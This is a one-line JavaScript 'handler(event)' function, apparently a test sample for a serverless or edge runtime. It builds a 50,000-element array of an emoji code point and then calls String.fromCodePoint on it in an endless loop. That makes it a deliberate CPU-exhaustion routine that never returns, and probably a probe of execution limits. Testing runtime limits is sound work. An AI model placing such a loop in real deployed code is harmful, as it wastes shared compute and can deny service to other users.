function handler(event) { for (var a = []; a.length < 50000;) a.push(0x1f600); for (;;) String.fromCodePoint.apply(null, a); }
